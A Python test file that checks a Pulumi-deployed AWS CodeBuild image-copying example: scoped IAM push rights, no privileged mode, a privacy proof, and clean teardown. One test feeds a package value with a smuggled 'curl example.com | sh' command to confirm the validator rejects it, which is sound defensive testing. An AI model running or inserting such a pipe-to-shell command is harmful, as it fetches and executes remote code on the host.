"""The example of a CodeBuild project that copies images: up, checked by pack and proof, destroyed with nothing left.

Not proved: a build. Only AWS runs one.
"""

import json
from pathlib import Path

from local.aws.leftovers import list_leftovers
from local.processes.cloud import LocalCloud
from paddock.privacy.proof import prove, read_inventory
from tests.local.stack import ROOT, Stack

PACKAGE = f"paddock[images] @ https://example.com/paddock-0.1.0-py3-none-any.whl#sha256={64 * '0'}"


def program(cloud: LocalCloud, folder: Path, package: str, name: str) -> Stack:
    config = {
        "aws:region": "us-east-1",
        "paddock-images:package": package,
        "paddock-images:stackFile": str(ROOT / "stacks" / "Pulumi.dev.yaml"),
    }
    return Stack.of_program(ROOT / "examples" / "images-codebuild", name, config, cloud.environment(), folder)


def test_the_build_goes_up_under_the_pack_is_named_by_the_proof_and_leaves_nothing(
    cloud: LocalCloud, tmp_path: Path
) -> None:
    stack = program(cloud, tmp_path / "program", PACKAGE, "images")
    stack.up("--policy-pack", str(ROOT / "policy"))
    assert stack.preview() == []
    outputs = stack.outputs()
    assert outputs["start"] == "aws codebuild start-build --project-name paddock-images"
    (project,) = [each for each in stack.resources() if each["type"] == "aws:codebuild/project:Project"]
    assert "vpcConfig" not in project["inputs"]
    assert not project["inputs"]["environment"]["privilegedMode"]
    (rights,) = [each for each in stack.resources() if each["type"] == "aws:iam/rolePolicy:RolePolicy"]
    pushes = json.loads(rights["outputs"]["policy"])["Statement"][1]
    assert pushes["Resource"] == [
        f"arn:aws:ecr:us-east-1:123456789012:repository/{name}" for name in outputs["repositories"]
    ]
    proof = prove(read_inventory(stack.run("stack", "export").stdout))
    assert [edge.rule for edge in proof.elsewhere] == ["build"]
    assert "build" not in {edge.rule for edge in proof.reasons}
    stack.destroy()
    assert list_leftovers(cloud.environment()["AWS_ENDPOINT_URL"], "us-east-1") == []


def test_a_package_that_could_change_is_refused_in_one_message(cloud: LocalCloud, tmp_path: Path) -> None:
    stack = program(cloud, tmp_path / "program", "paddock[images]; curl example.com | sh", "refused")
    refused = stack.run("preview", check=False)
    assert refused.returncode != 0
    assert "package must be `paddock[images] @ https" in refused.stdout
    assert "Traceback" not in refused.stdout
